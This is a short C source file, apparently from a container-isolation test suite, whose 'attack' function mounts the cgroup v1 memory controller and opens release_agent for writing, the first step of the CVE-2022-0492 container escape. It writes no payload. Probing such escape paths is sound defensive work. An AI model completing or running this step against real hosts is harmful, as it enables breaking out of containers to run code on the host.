/* cgroup v1 with its release_agent, which the kernel executes outside (CVE-2022-0492). */
#include "attack.h"

#include <sys/mount.h>

static long attack(char **argv)
{
    (void)argv;
    if (mount("cgroup", "/mnt", "cgroup", 0, "memory") != 0)
        return -1;
    return open("/mnt/release_agent", O_WRONLY);
}
